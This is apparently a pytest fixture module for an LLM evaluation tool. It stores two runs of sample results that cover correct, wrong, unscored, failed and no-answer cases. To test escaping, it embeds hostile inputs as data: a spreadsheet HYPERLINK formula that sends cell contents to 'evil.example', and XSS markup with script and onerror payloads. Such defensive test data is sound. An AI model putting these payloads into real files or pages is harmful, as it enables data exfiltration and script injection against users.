"""A database with two runs of everything that can happen to a sample, in hostile words."""

import asyncio
from collections.abc import Sequence

import pytest

from llm_eval.metrics.collector import collect
from llm_eval.metrics.storage import MetricsStorage
from llm_eval.types import (
    Failure,
    Message,
    ModelResponse,
    RunInfo,
    Sample,
    SampleResult,
    Score,
    TokenLogprob,
    Unscored,
    Usage,
)

METRICS = [
    {"name": "exact_match", "kind": "rate", "worst": 0.0, "best": 1.0},
    {"name": "f1", "kind": "mean", "worst": 0.0, "best": 1.0},
]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
MARKUP = "<img src=x onerror=alert(1)></script><script>alert(2)</script>"
ODD = f"nul \0, half \ud83d, quote ' \" \\, lines \r\n\n, 雪 \x1b[31m\u202e {MARKUP}"
FIELDS = {
    "fields": [
        {"path": "total", "status": "wrong", "expected": 12.5, "actual": 13},
        {"path": "items[].sku", "status": "correct"},
        {"path": "note", "status": "spurious", "expected": None, "actual": MARKUP},
    ],
    "n_fields": 3,
}


def results() -> list[SampleResult]:
    """Right, wrong with fields, unscored, failed, no answer, and a formula as a name."""
    right = SampleResult(
        0,
        0,
        Sample("a" * 64, "first", {"q": "2 + 2"}, "4", "easy", None, {"kind": "sum"}),
        (Message("user", "2 + 2"),),
        ModelResponse(
            "4",
            "m",
            usage=Usage(7, 1),
            latency_s=0.25,
            cost_usd=0.5,
            logprobs=(TokenLogprob("4", -0.1, (("4", -0.1),)),),
        ),
        4,
        None,
        (Score("exact_match", 1.0), Score("f1", 1.0)),
    )
    wrong = SampleResult(
        1,
        0,
        Sample("b" * 64, FORMULA, {"q": ODD}, {"text": ODD}, "hard", "c1"),
        (Message("user", ODD),),
        ModelResponse(ODD, "m", usage=Usage(9, 5), latency_s=0.75, cost_usd=0.25),
        {"text": float("nan")},
        None,
        (Score("exact_match", 0.0, ODD, FIELDS), Score("f1", 0.5)),
    )
    unscored = SampleResult(
        2,
        0,
        Sample("c" * 64, "-5", {"q": "?"}, None, "hard"),
        (Message("user", "?"),),
        ModelResponse(FORMULA, "m", latency_s=0.5),
        FORMULA,
        None,
        (Unscored("exact_match", "the judge is silent", "abstained"), Score("f1", 0.25)),
    )
    failed = SampleResult(
        3,
        0,
        Sample("d" * 64, "fourth", {"q": "?"}, [1], "easy"),
        (Message("user", "?"),),
        failure=Failure("provider", "timeout", "no reply in 60 s", None, 3),
    )
    no_answer = SampleResult(
        4,
        0,
        Sample("e" * 64, "fifth", {"q": "?"}, 1, None),
        (Message("user", "?"),),
        ModelResponse("I would rather not", "m", latency_s=1.0),
        None,
        "no JSON in the reply",
        (Score("exact_match", 0.0), Score("f1", 0.0)),
    )
    return [right, wrong, unscored, failed, no_answer]


def store(
    storage: MetricsStorage, run_id: str, rows: Sequence[SampleResult], **fields: object
) -> RunInfo:
    """A finished run of `rows`."""
    info = RunInfo(
        **{  # type: ignore[arg-type]
            "run_id": run_id,
            "task": "qa",
            "model": "openai/m",
            "created_at": "2026-01-02T03:04:05+00:00",
            "recipe": {
                "task": "qa",
                "metrics": METRICS,
                "dataset_hash": "9f" * 32,
                "model_fingerprint": "ab" * 32,
                "seed": 0,
                "code": {"llm_eval": "0.1.0", "git_commit": "c0ffee"},
            },
            "status": "running",
            "n_total": len(rows),
            "tags": {"branch": "main"},
            **fields,
        }
    )
    storage.create_run(info)

    async def write() -> None:
        async with storage.writer(run_id) as writer:

            async def put(row: SampleResult) -> None:
                if row.response is not None:
                    await writer.put_response(
                        row.index, row.epoch, row.sample, row.prompt, row.response, f"{row.index}"
                    )
                await writer.put_result(row)

            await asyncio.gather(*map(put, rows))

    asyncio.run(write())
    storage.update_run(run_id, status="incomplete", finished_at="2026-01-02T03:05:05+00:00")
    summary = collect(storage, run_id, wall_s=2.0).to_dict()
    storage.update_run(run_id, summary=summary)
    return storage.get_run(run_id)


@pytest.fixture
def run(storage: MetricsStorage) -> RunInfo:
    """One run of `results()`."""
    return store(storage, "run_20260102_030405_aaaaaa", results())


@pytest.fixture
def other(storage: MetricsStorage, run: RunInfo) -> RunInfo:
    """A later run of another task with another metric."""
    row = SampleResult(
        0,
        0,
        Sample("f" * 64, "only", {}, "x"),
        (Message("user", "x"),),
        ModelResponse("x", "n", latency_s=0.1),
        "x",
        None,
        (Score("bleu", 0.4),),
    )
    return store(
        storage,
        "run_20260203_040506_bbbbbb",
        [row],
        task="other",
        model="openai/n",
        created_at="2026-02-03T04:05:06+00:00",
        recipe={"metrics": [{"name": "bleu", "kind": "mean", "worst": 0.0, "best": 1.0}]},
        tags={},
    )
